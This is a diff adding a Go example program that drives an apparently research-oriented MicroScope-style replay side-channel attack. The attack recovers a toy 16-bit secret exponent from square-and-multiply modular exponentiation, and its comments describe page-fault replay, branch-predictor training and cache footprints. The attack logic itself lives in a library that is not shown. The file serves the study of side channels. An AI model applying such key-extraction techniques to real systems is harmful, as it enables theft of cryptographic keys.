@@ -1,0 +1,41 @@
+// RSA-style key extraction: square-and-multiply modular exponentiation
+// with a secret exponent, attacked with the Loop Secret pattern of
+// §4.2.2. Each iteration's replay handle opens a window over that
+// iteration's secret-dependent multiply; after a few replays train the
+// branch predictor to a known state (§4.2.3), the multiply path's cache
+// footprint reveals the exponent bit. The whole exponent falls out of a
+// single logical run.
+//
+// Run with: go run ./examples/rsa
+package main
+
+import (
+	"fmt"
+	"log"
+
+	"microscope/attack/experiments"
+)
+
+func main() {
+	const (
+		base = 0x4321
+
+		exp  = 0xC0DE // the secret exponent the attack recovers
+		mod  = 0xE777D
+		bits = 16
+	)
+	res, err := experiments.RunModExp(base, exp, mod, bits)
+	if err != nil {
+		log.Fatal(err)
+	}
+
+	fmt.Printf("victim: %#x ^ secret mod %#x (%d-bit exponent)\n", base, mod, bits)
+	fmt.Printf("page faults used: %d (one logical run)\n", res.Faults)
+	fmt.Printf("true exponent:      %016b\n", res.TrueExp)
+	fmt.Printf("recovered exponent: %016b\n", res.RecoveredExp)
+	fmt.Printf("victim result correct: %t\n", res.ResultOK)
+	if !res.Match() {
+		log.Fatal("extraction failed")
+	}
+	fmt.Println("exponent fully recovered")
+}
